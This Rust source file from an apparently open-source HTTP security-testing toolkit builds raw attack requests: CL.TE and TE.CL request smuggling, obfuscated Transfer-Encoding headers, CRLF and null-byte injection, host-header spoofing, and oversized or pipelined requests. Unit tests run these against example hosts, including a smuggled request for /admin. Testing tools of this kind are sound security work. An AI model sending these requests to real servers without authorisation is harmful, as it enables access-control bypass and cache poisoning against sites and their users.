/*
 * recipes.rs
 * Copyright (C) 2026 Chris Burdess
 *
 * This file is part of Grimaldello, a raw HTTP security-testing toolkit.
 *
 * Grimaldello is free software: you can redistribute it and/or modify
 * it under the terms of the GNU General Public License as published by
 * the Free Software Foundation, either version 3 of the License, or
 * (at your option) any later version.
 *
 * Grimaldello is distributed in the hope that it will be useful,
 * but WITHOUT ANY WARRANTY; without even the implied warranty of
 * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
 * GNU General Public License for more details.
 *
 * You should have received a copy of the GNU General Public License
 * along with Grimaldello.  If not, see <http://www.gnu.org/licenses/>.
 */

//! Parameterized constructors for well-known attack requests: smuggling,
//! host-header games, CRLF/null injection, oversized headers, absolute
//! URIs, HTTP/0.9, pipelining probes. Each returns a [`RequestPlan`]
//! (bytes via `build()`); HTTP/0.9 returns bytes directly since it has
//! no header block.

use crate::http::request::{Malformation, RequestPlan};

/// CL.TE smuggling: `Content-Length` covers the whole body, so a
/// CL-framing frontend forwards it all, while a TE-framing backend stops
/// at the chunked terminator and treats the rest as the next request.
pub fn smuggling_cl_te(host: &str, path: &str, smuggled: &str) -> RequestPlan {
    let body = format!("0\r\n\r\n{}", smuggled);
    RequestPlan::new()
        .method("POST")
        .path(path)
        .host(host)
        .header("Host", host)
        .header("Content-Length", body.len().to_string())
        .header("Transfer-Encoding", "chunked")
        .body(body.into_bytes())
}

/// TE.CL smuggling: a TE-framing frontend consumes the full chunked
/// body, while a CL-framing backend stops after `Content-Length` bytes
/// and leaves the smuggled tail on the wire.
pub fn smuggling_te_cl(host: &str, path: &str, smuggled: &str) -> RequestPlan {
    let body = format!("{:x}\r\n{}\r\n0\r\n\r\n", smuggled.len(), smuggled);
    RequestPlan::new()
        .method("POST")
        .path(path)
        .host(host)
        .header("Host", host)
        .header("Content-Length", "4")
        .header("Transfer-Encoding", "chunked")
        .body(body.into_bytes())
}

/// Obfuscations of the `Transfer-Encoding` header that some frontends
/// normalize and some backends honor.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TeObfuscation {
    /// `Transfer-Encoding : chunked`
    Space,
    /// `Transfer-Encoding:\tchunked`
    Tab,
    /// `Transfer-Encoding: cHuNkEd`
    Case,
    /// `Transfer-Encoding: chunked\0`
    Null,
    /// `Transfer-Encoding:\x0Bchunked`
    VerticalTab,
    /// `Transfer-Encoding:\n chunked` (a LF and a leading space;
    /// observable as line folding to some parsers)
    Newline,
}

pub fn obfuscated_transfer_encoding(host: &str, path: &str, kind: TeObfuscation) -> RequestPlan {
    let line: &[u8] = match kind {
        TeObfuscation::Space => b"Transfer-Encoding : chunked",
        TeObfuscation::Tab => b"Transfer-Encoding:\tchunked",
        TeObfuscation::Case => b"Transfer-Encoding: cHuNkEd",
        TeObfuscation::Null => b"Transfer-Encoding: chunked\0",
        TeObfuscation::VerticalTab => b"Transfer-Encoding:\x0Bchunked",
        TeObfuscation::Newline => b"Transfer-Encoding:\n chunked",
    };
    RequestPlan::new()
        .method("POST")
        .path(path)
        .host(host)
        .header("Host", host)
        .header("Content-Length", "4")
        .raw_header(line)
        .body(&b"0\r\n\r\n"[..])
}

/// A header whose value smuggles an extra header line through CRLF.
pub fn crlf_injection(
    host: &str,
    path: &str,
    name: &str,
    value: &str,
    injected: &str,
) -> RequestPlan {
    RequestPlan::new()
        .path(path)
        .host(host)
        .header("Host", host)
        .raw_header(format!("{}: {}\r\n{}", name, value, injected).into_bytes())
}

/// The same header twice with different values, in order.
pub fn duplicate_headers(
    host: &str,
    path: &str,
    name: &str,
    first: &str,
    second: &str,
) -> RequestPlan {
    RequestPlan::new()
        .path(path)
        .host(host)
        .header("Host", host)
        .header(name, first)
        .header(name, second)
}

pub struct OversizedHeader<'a> {
    pub host: &'a str,
    pub name: &'a str,
    /// Exact value length in bytes (all `A`s).
    pub size: usize,
}

pub fn oversized_header(params: OversizedHeader<'_>) -> RequestPlan {
    RequestPlan::new()
        .host(params.host)
        .header("Host", params.host)
        .header(params.name, "A".repeat(params.size))
}

pub fn null_byte_injection(host: &str, path: &str, name: &str, value: &str) -> RequestPlan {
    RequestPlan::new()
        .path(path)
        .host(host)
        .header("Host", host)
        .malformed_header(Malformation::NullByte, name, value)
}

/// A POST carrying `X-HTTP-Method-Override` for backends that honor it.
pub fn method_override(host: &str, path: &str, override_method: &str) -> RequestPlan {
    RequestPlan::new()
        .method("POST")
        .path(path)
        .host(host)
        .header("Host", host)
        .header("X-HTTP-Method-Override", override_method)
        .header("Content-Length", "0")
}

pub struct AbsoluteUri<'a> {
    pub host: &'a str,
    pub port: u16,
    pub path: &'a str,
}

/// Absolute-form request target (`GET http://host/path HTTP/1.1`),
/// default port elided.
pub fn absolute_uri(params: AbsoluteUri<'_>) -> RequestPlan {
    let target = if params.port == 80 {
        format!("http://{}{}", params.host, params.path)
    } else {
        format!("http://{}:{}{}", params.host, params.port, params.path)
    };
    RequestPlan::new()
        .path(target)
        .host(params.host)
        .port(params.port)
        .header("Host", params.host)
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HostAttackKind {
    /// Two `Host:` lines, legit first.
    Duplicate,
    /// Legit `Host:` plus `X-Forwarded-Host` pointing at the attacker.
    Override,
    /// Absolute request target on the attacker origin, legit `Host:`.
    AbsoluteUrl,
    /// Attacker injected after the port separator.
    PortInjection,
    /// Attacker name prefixed as a subdomain label.
    Subdomain,
}

pub struct HostHeaderAttack<'a> {
    pub legit: &'a str,
    pub attack: &'a str,
    pub kind: HostAttackKind,
}

pub fn host_header_attack(params: HostHeaderAttack<'_>) -> RequestPlan {
    let plan = RequestPlan::new().host(params.legit);
    match params.kind {
        HostAttackKind::Duplicate => plan
            .header("Host", params.legit)
            .header("Host", params.attack),
        HostAttackKind::Override => plan
            .header("Host", params.legit)
            .header("X-Forwarded-Host", params.attack),
        HostAttackKind::AbsoluteUrl => plan
            .path(format!("http://{}/", params.attack))
            .header("Host", params.legit),
        HostAttackKind::PortInjection => {
            plan.header("Host", format!("{}:{}", params.legit, params.attack))
        }
        HostAttackKind::Subdomain => {
            plan.header("Host", format!("{}.{}", params.attack, params.legit))
        }
    }
}

/// HTTP/0.9 has no version, headers, or body: the request is one line.
pub fn http09_request(path: &str) -> Vec<u8> {
    format!("GET {}\r\n", path).into_bytes()
}

/// N identical GETs suitable for `send_pipelined`, keep-alive on all but
/// the last.
pub fn pipelined_probe(host: &str, paths: &[&str]) -> Vec<RequestPlan> {
    paths
        .iter()
        .enumerate()
        .map(|(i, path)| {
            RequestPlan::new()
                .path(*path)
                .host(host)
                .header("Host", host)
                .ensure_connection_header(i + 1 < paths.len())
        })
        .collect()
}

/// One chunk of a chunked body. An extension turns the size line into
/// `N; extension\r\n`.
pub struct Chunk<'a> {
    pub data: &'a [u8],
    pub extension: Option<&'a str>,
}

impl<'a> Chunk<'a> {
    pub fn new(data: &'a [u8]) -> Self {
        Self {
            data,
            extension: None,
        }
    }

    pub fn with_extension(data: &'a [u8], extension: &'a str) -> Self {
        Self {
            data,
            extension: Some(extension),
        }
    }
}

/// Serialize chunks with hex size lines and the `0\r\n\r\n` terminator.
pub fn create_chunked_body(chunks: &[Chunk<'_>]) -> Vec<u8> {
    let mut out = Vec::new();
    for chunk in chunks {
        match chunk.extension {
            Some(ext) => out.extend_from_slice(
                format!("{:x}; {}\r\n", chunk.data.len(), ext).as_bytes(),
            ),
            None => out.extend_from_slice(format!("{:x}\r\n", chunk.data.len()).as_bytes()),
        }
        out.extend_from_slice(chunk.data);
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(b"0\r\n\r\n");
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cl_te_carries_both_indicators() {
        let plan = smuggling_cl_te("target.example", "/", "GET /admin HTTP/1.1\r\n");
        let text = String::from_utf8_lossy(&plan.build()).into_owned();
        assert!(text.contains("Content-Length:"));
        assert!(text.contains("Transfer-Encoding: chunked"));
        assert!(text.contains("0\r\n\r\nGET /admin"));
    }

    #[test]
    fn te_cl_chunked_body() {
        let plan = smuggling_te_cl("target.example", "/", "X");
        let text = String::from_utf8_lossy(&plan.build()).into_owned();
        assert!(text.contains("Content-Length: 4"));
        assert!(text.ends_with("1\r\nX\r\n0\r\n\r\n"));
    }

    #[test]
    fn te_obfuscation_newline_observable() {
        let plan = obfuscated_transfer_encoding("h", "/", TeObfuscation::Newline);
        let bytes = plan.build();
        assert!(
            crate::http::response::find(&bytes, b"Transfer-Encoding:\n chunked").is_some()
        );
    }

    #[test]
    fn chunked_body_helper() {
        let body = create_chunked_body(&[Chunk::new(b"Hello"), Chunk::new(b"World")]);
        let text = String::from_utf8_lossy(&body).into_owned();
        assert!(text.contains("5\r\nHello\r\n"));
        assert!(text.contains("5\r\nWorld\r\n"));
        assert!(text.ends_with("0\r\n\r\n"));
    }

    #[test]
    fn chunked_extension_size_line() {
        let body = create_chunked_body(&[Chunk::with_extension(b"Hello", "name=value")]);
        assert!(String::from_utf8_lossy(&body).starts_with("5; name=value\r\n"));
    }

    #[test]
    fn host_duplicate_order() {
        let plan = host_header_attack(HostHeaderAttack {
            legit: "target.com",
            attack: "evil.com",
            kind: HostAttackKind::Duplicate,
        });
        let text = String::from_utf8_lossy(&plan.build()).into_owned();
        let first = text.find("Host: target.com").unwrap();
        let second = text.find("Host: evil.com").unwrap();
        assert!(first < second);
    }

    #[test]
    fn absolute_uri_request_line() {
        let plan = absolute_uri(AbsoluteUri {
            host: "target.com",
            port: 80,
            path: "/api/data",
        });
        let text = String::from_utf8_lossy(&plan.build()).into_owned();
        assert!(text.starts_with("GET http://target.com/api/data HTTP/1.1\r\n"));
    }

    #[test]
    fn oversized_header_exact_size() {
        let plan = oversized_header(OversizedHeader {
            host: "h",
            name: "X-Large",
            size: 1000,
        });
        let pairs = plan.header_pairs();
        let (_, value) = pairs.iter().find(|(n, _)| n == "X-Large").unwrap();
        assert_eq!(value.len(), 1000);
        assert!(value.bytes().all(|b| b == b'A'));
    }

    #[test]
    fn http09_line() {
        assert_eq!(http09_request("/x"), b"GET /x\r\n");
    }

    #[test]
    fn pipeline_probe_connection_headers() {
        let plans = pipelined_probe("h", &["/a", "/b"]);
        let first = String::from_utf8_lossy(&plans[0].build()).into_owned();
        let last = String::from_utf8_lossy(&plans[1].build()).into_owned();
        assert!(first.contains("Connection: keep-alive"));
        assert!(last.contains("Connection: close"));
    }
}
